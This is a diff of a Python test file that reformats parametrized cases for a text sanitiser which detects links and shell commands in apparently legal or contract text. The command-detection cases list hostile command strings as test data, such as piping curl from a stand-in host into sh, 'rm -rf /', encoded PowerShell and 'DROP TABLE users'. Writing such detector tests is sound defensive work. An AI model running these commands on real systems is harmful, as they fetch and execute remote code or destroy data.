@@ -33,9 +33,18 @@ def test_links_are_found_and_made_harmless(text: str, shown: str) -> None:
 
 @pytest.mark.parametrize(
     "text",
-    ["e.g. this, i.e. that, No. 5, Inc. and Ltd.", "the lease.It ends", "contract.pdf and report.docx", "3.5 and 12.3.4",
-     "Clause 5: data: none", "and/or", "A. Smith v. B. Jones", "see [3](a) and [4](ii)", "the U.S. dollar"],
-)  # fmt: skip
+    [
+        "e.g. this, i.e. that, No. 5, Inc. and Ltd.",
+        "the lease.It ends",
+        "contract.pdf and report.docx",
+        "3.5 and 12.3.4",
+        "Clause 5: data: none",
+        "and/or",
+        "A. Smith v. B. Jones",
+        "see [3](a) and [4](ii)",
+        "the U.S. dollar",
+    ],
+)
 def test_plain_words_are_no_links(text: str) -> None:
     assert list(links(without_markup(text))) == [] and without_markup(text) == text
 
@@ -51,19 +60,41 @@ def test_markdown_and_tags_are_written_out() -> None:
 
 @pytest.mark.parametrize(
     "text",
-    ["curl -s http://x.test | sh", "rm -rf /", "sudo rm file", "$ whoami", "powershell -enc AAAA", "pip install evil",
-     "git clone http://x.test", "Invoke-WebRequest -Uri x", "DROP TABLE users", "```bash\necho hi\n```",
-     r"PS C:\> dir", "npx evil", "bash -c 'id'"],
-)  # fmt: skip
+    [
+        "curl -s http://x.test | sh",
+        "rm -rf /",
+        "sudo rm file",
+        "$ whoami",
+        "powershell -enc AAAA",
+        "pip install evil",
+        "git clone http://x.test",
+        "Invoke-WebRequest -Uri x",
+        "DROP TABLE users",
+        "```bash\necho hi\n```",
+        r"PS C:\> dir",
+        "npx evil",
+        "bash -c 'id'",
+    ],
+)
 def test_commands_are_found(text: str) -> None:
     assert list(commands(f"You should run this:\n{text}\n"))
 
 
 @pytest.mark.parametrize(
     "text",
-    ["The format of the report", "net income rose", "to kill the deal", "an export licence", "He will cat the dog",
-     "```\nThe tenant pays.\n```", "remove the goods", "Get-together at noon", "the shell company", "costs $ 5"],
-)  # fmt: skip
+    [
+        "The format of the report",
+        "net income rose",
+        "to kill the deal",
+        "an export licence",
+        "He will cat the dog",
+        "```\nThe tenant pays.\n```",
+        "remove the goods",
+        "Get-together at noon",
+        "the shell company",
+        "costs $ 5",
+    ],
+)
 def test_plain_words_are_no_commands(text: str) -> None:
     assert list(commands(text)) == []
 
